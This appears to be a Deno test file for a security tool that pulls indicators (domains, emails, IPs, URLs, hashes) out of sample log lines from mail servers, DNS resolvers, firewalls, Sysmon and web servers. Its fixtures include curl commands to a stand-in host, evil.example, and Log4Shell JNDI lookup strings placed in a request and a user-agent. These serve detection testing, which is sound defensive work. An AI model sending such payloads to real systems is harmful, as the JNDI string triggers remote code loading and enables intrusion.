/**
 * Lines as products write them, and what they hold. Written from the formats of
 * the products, not from what the sources say.
 *
 * @module
 */
import { assertEquals } from "@std/assert";
import { findIn, valuesOf } from "../../stand_ins/alerts.ts";

const EVIL_URL = ["domain evil.example", "url http://evil.example/a"];

/** By source: a line or data, and what must be found. */
const LINES: Readonly<
  Record<string, readonly (readonly [object | string, readonly string[]])[]>
> = {
  audit_detections: [
    [
      {
        data: {
          audit: { execve: { a0: "curl", a1: "http://evil.example/a" } },
        },
      },
      EVIL_URL,
    ],
  ],
  sendmail: [
    [
      "sendmail[9]: s1: from=<a@evil.example>, size=1, relay=mail.evil2.example [185.244.31.158]",
      [
        "domain evil.example",
        "domain mail.evil2.example",
        "email a@evil.example",
        "ipv4 185.244.31.158",
      ],
    ],
    [
      "sendmail[9]: s1: ruleset=check_mail, arg1=<a@evil.example>, relay=[185.244.31.158], reject=553",
      ["domain evil.example", "email a@evil.example", "ipv4 185.244.31.158"],
    ],
    [
      "sendmail[9]: s1: to=<b@x.example>,<c@y.example>, delay=0",
      [
        "domain x.example",
        "domain y.example",
        "email b@x.example",
        "email c@y.example",
      ],
    ],
  ],
  exim: [
    [
      "2019-10-20 09:56:39 1iM-0 <= a@evil.example H=(helo.evil2.example) [185.244.31.158] P=esmtp",
      [
        "domain evil.example",
        "domain helo.evil2.example",
        "email a@evil.example",
        "ipv4 185.244.31.158",
      ],
    ],
    [
      "2019-10-20 09:56:39 1iM-0 => b@evil.example R=dnslookup",
      ["domain evil.example", "email b@evil.example"],
    ],
    [
      "2019-10-20 09:56:39 plain authenticator failed for (User) [185.244.31.158]: 535",
      ["ipv4 185.244.31.158"],
    ],
  ],
  named: [
    [
      "named[1]: lame server resolving 'evil.example' (in 'example'?): 185.244.31.158#53",
      ["domain evil.example", "ipv4 185.244.31.158"],
    ],
    [
      "named[1]: client @0x7f 185.244.31.158#53 (evil.example): view v: query: evil.example IN A +E(0)K",
      ["domain evil.example", "ipv4 185.244.31.158"],
    ],
  ],
  squid: [
    [
      "1700000000.123 512 10.0.0.21 TCP_MISS/200 1 GET http://evil.example/a - ORIGINAL_DST/185.244.31.158 text/html",
      ["ipv4 185.244.31.158"],
    ],
    [
      { data: { url: "[2a00:1450::1]:443" } },
      ["ipv6 2a00:1450::1"],
    ],
  ],
  dnsmasq: [
    [
      "dnsmasq[12]: 42 10.0.0.21/53124 query[A] evil.example from 10.0.0.21",
      ["domain evil.example"],
    ],
    ["dnsmasq[12]: query[type=65] evil.example from 10.0.0.21", [
      "domain evil.example",
    ]],
    ["dnsmasq[12]: reply evil.example is <CNAME>", ["domain evil.example"]],
    ["dnsmasq[12]: cached-stale evil.example is 185.244.31.158", [
      "domain evil.example",
      "ipv4 185.244.31.158",
    ]],
  ],
  "cisco-asa": [
    [
      "%ASA-6-302013: Built outbound TCP connection 1 for outside:185.244.31.158/80 (185.244.31.158/80) to inside:10.0.0.21/1234 (8.7.6.5/1234)",
      // The second in brackets is what the firewall translates to: its own.
      ["ipv4 185.244.31.158"],
    ],
    [
      "%ASA-4-106100: access-list in denied udp inside/10.0.0.21(4000) -> outside/8.8.8.8(53) hit-cnt 1",
      [],
    ],
    [
      "%ASA-4-401004: Shunned packet: 185.244.31.158 ==> 10.0.0.21 on interface outside",
      ["ipv4 185.244.31.158"],
    ],
  ],
  "cisco-ftd": [
    [
      "%FTD-1-430003: SrcIP: 10.0.0.21, DstIP: 8.8.8.8, SrcPort: 4000, DstPort: 53, Protocol: udp, DNSQuery: evil.example",
      ["domain evil.example"],
    ],
    [
      "%FTD-1-430005: SrcIP: 10.0.0.21, DstIP: 185.244.31.158, DstPort: 80, URI: http://evil.example/a",
      [...EVIL_URL, "ipv4 185.244.31.158"].sort(),
    ],
  ],
  pfsense: [
    [
      "filterlog[1]: 5,,,1,em0,match,block,out,4,0x0,,64,1,0,DF,17,udp,60,10.0.0.21,8.8.8.8,4000,53,40",
      [],
    ],
  ],
  netscaler: [[{ data: { dstip: "8.8.8.8:53" } }, []]],
  fortigate: [
    [
      {
        data: { action: "login" },
        full_log: "action=login status=failed ui=ssh(185.244.31.158)",
      },
      [],
    ],
    [
      { data: { action: "alert" }, full_log: "ui=https(185.244.31.158)" },
      ["ipv4 185.244.31.158"],
    ],
  ],
  "checkpoint-smart1": [
    [
      '[src:"10.0.0.21"; from:"a@evil.example"; to:"b@x.example"; resource:"http://evil.example/a"; ]',
      [
        "domain evil.example",
        "domain x.example",
        "email a@evil.example",
        "email b@x.example",
        "url http://evil.example/a",
      ],
    ],
    [{ data: { srcip: "185.244.31.158" } }, ["ipv4 185.244.31.158"]],
  ],
  sshd: [
    [
      "sshd[1]: Address 185.244.31.158 maps to evil.example, but this does not map back to the address",
      ["domain evil.example"],
    ],
  ],
  sysmon: [
    [
      '<Event><EventData><Data Name="Hashes">SHA256=' + "AB".repeat(32) +
      '</Data><Data Name="CommandLine">curl http://evil.example/a?x=1&amp;y=2</Data></EventData></Event>',
      [
        "domain evil.example",
        `sha256 ${"ab".repeat(32)}`,
        "url http://evil.example/a?x=1&y=2",
      ],
    ],
  ],
  windows_firewall: [
    [
      {
        data: {
          win: {
            eventdata: {
              remoteAddresses:
                "LocalSubnet,2001:4860::/32,185.244.31.158/255.255.255.255,2a00:1450::1/128,9.9.9.0/24",
            },
          },
        },
      },
      ["ipv4 185.244.31.158", "ipv6 2a00:1450::1"],
    ],
  ],
  windows: [
    [
      {
        decoder: { name: "windows_eventchannel" },
        data: {
          win: {
            system: { channel: "Application" },
            eventXML: { param3: "7.9.3.16" },
          },
        },
      },
      [],
    ],
  ],
  osquery: [
    [
      {
        data: {
          osquery: {
            snapshot: [
              { remote_address: "8.8.4.4", remote_port: "53" },
              { remote_address: "8.8.8.8", remote_port: "443" },
            ],
          },
        },
      },
      ["ipv4 8.8.8.8"],
    ],
  ],
  fortimail: [
    [
      { data: { hfrom: "Evil Corp <spoof@evil.example>" } },
      ["domain evil.example", "email spoof@evil.example"],
    ],
  ],
  office365: [
    [
      { data: { office365: { P2Sender: '"Evil" <spoof@evil.example>' } } },
      ["domain evil.example", "email spoof@evil.example"],
    ],
  ],
  maltiverse: [
    [
      {
        data: {
          threat: { indicator: { name: "evil.example", type: "domain-name" } },
        },
      },
      ["domain evil.example"],
    ],
    [
      {
        data: {
          threat: { indicator: { name: "http://evil.example/a", type: "url" } },
        },
      },
      EVIL_URL,
    ],
    [
      {
        data: {
          threat: { indicator: { name: "ab".repeat(32), type: "file" } },
        },
      },
      [`sha256 ${"ab".repeat(32)}`],
    ],
  ],
  aws_alb: [
    [
      {
        data: {
          aws: {
            request:
              "GET https://own.example:443/?x=${jndi:ldap://evil.example/a} HTTP/1.1",
          },
        },
      },
      ["domain evil.example"],
    ],
  ],
  web: [
    [
      '1.2.3.4 - - [x] "GET /x HTTP/1.1" 404 1 "-" "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"',
      [],
    ],
    [
      '1.2.3.4 - - [x] "GET /x HTTP/1.1" 404 1 "http://evil.example/a" "x"',
      EVIL_URL,
    ],
    [
      '1.2.3.4 - - [x] "GET /x HTTP/1.1" 404 1 "-" "${jndi:ldap://evil.example:1389/a}"',
      ["domain evil.example"],
    ],
    [
      'ModSecurity: Access denied [ref "https://owasp.example/x"] [hostname "own.example"]',
      [],
    ],
  ],
};

Deno.test("a line as a product writes it gives what it holds", async (t) => {
  for (const [group, lines] of Object.entries(LINES)) {
    for (const [line, expected] of lines) {
      const rest = typeof line === "string" ? { full_log: line } : line;
      await t.step(`${group}: ${JSON.stringify(rest).slice(0, 90)}`, () => {
        const findings = findIn({ rule: { groups: [group] }, ...rest });
        assertEquals(valuesOf(findings).sort(), [...expected]);
      });
    }
  }
});
